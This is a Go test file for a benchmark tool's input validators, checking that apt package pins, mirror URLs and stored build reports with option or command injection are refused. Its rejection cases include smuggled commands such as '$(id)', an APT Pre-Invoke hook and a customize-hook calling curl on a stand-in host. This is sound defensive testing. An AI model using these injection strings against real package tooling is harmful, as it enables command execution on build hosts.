package evidence

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/hale-lang/halebench/orchestrator/outcome"
	"github.com/hale-lang/halebench/orchestrator/report"
)

func TestCheckPin(t *testing.T) {
	for _, ok := range []string{"clang-19=1:19.1.7-3", "libc6-dev=2.41-12", "golang-go=2:1.24~2", "libstdc++6:amd64=14.2.0-19", "ca-certificates=20250419"} {
		if err := CheckPin(ok); err != nil {
			t.Errorf("%s: %v", ok, err)
		}
	}
	for _, bad := range []string{"-oAPT::Update::Pre-Invoke::=sh", "-o", "clang", "clang=", "Clang=1", "clang=1;id", "clang=1$(id)", "clang=x1", "c=1", "clang=1 -y", "--allow-unauthenticated"} {
		if err := CheckPin(bad); err == nil {
			t.Errorf("%q accepted as a pin", bad)
		}
	}
}

func TestCheckMirror(t *testing.T) {
	for _, ok := range []string{"http://deb.debian.org/debian", "https://mirror.example:8080/debian/"} {
		if err := CheckMirror(ok); err != nil {
			t.Errorf("%s: %v", ok, err)
		}
	}
	for _, bad := range []string{"--customize-hook=x://", "file:///etc", "ftp://x/debian", "http://", "http://x/ y", `http://x/"`, "http://x/$(id)", "http://-oops/", "deb http://x/ trixie main"} {
		if err := CheckMirror(bad); err == nil {
			t.Errorf("%q accepted as a mirror", bad)
		}
	}
}

// A report whose PACKAGES carries an apt option, or whose base builder
// records a mirror that is an mmdebstrap option, is refused when read: before
// verify dials the engine or builds anything (the CLI exits 2 on it).
func TestReadReportRefusesHostileInputs(t *testing.T) {
	write := func(packages, builder string) string {
		rep := report.Report{Schema: report.Schema,
			Base: report.Base{Ref: "halebench/base:trixie-1", ID: "sha256:aa", Inputs: &report.Inputs{
				Builder: builder, SourceDateEpoch: 1}},
			Images: map[string]report.Toolchain{"c": {Status: outcome.Available, Ref: "halebench/toolchain-c:x",
				Inputs: &report.Inputs{BuildArgs: map[string]string{"PACKAGES": packages}}}}}
		data, err := json.Marshal(rep)
		if err != nil {
			t.Fatal(err)
		}
		p := filepath.Join(t.TempDir(), "report.json")
		if err := os.WriteFile(p, data, 0o644); err != nil {
			t.Fatal(err)
		}
		return p
	}
	good := "mmdebstrap --variant=minbase --include=ca-certificates trixie http://deb.debian.org/debian; halebench"
	if _, err := ReadReport(write("clang-19=1:19.1.7-3 libc6-dev=2.41-12", good)); err != nil {
		t.Fatalf("a report as halebench writes it: %v", err)
	}
	// verify's --hale-src must be a folder, checked with the report.
	if _, err := ReadStoredForVerify(write("clang=1", good), t.TempDir()); err != nil {
		t.Errorf("verify, a hale tree: %v", err)
	}
	if _, err := ReadStoredForVerify(write("clang=1", good), "/no/such/hale"); err == nil || !strings.HasPrefix(err.Error(), "--hale-src=/no/such/hale: ") {
		t.Errorf("verify, no hale tree: %v", err)
	}
	cases := map[string]string{
		write("-o APT::Update::Pre-Invoke::=touch${IFS}/tmp/owned clang=1", good):                              "toolchain c PACKAGES",
		write("clang=1", "mmdebstrap --variant=minbase trixie --customize-hook=curl${IFS}evil://x; halebench"): "base builder",
	}
	for p, want := range cases {
		_, err := ReadReport(p)
		if err == nil || !strings.Contains(err.Error(), want) || !strings.Contains(err.Error(), p) {
			t.Errorf("err = %v, want one naming %s and %q", err, p, want)
		}
	}
}
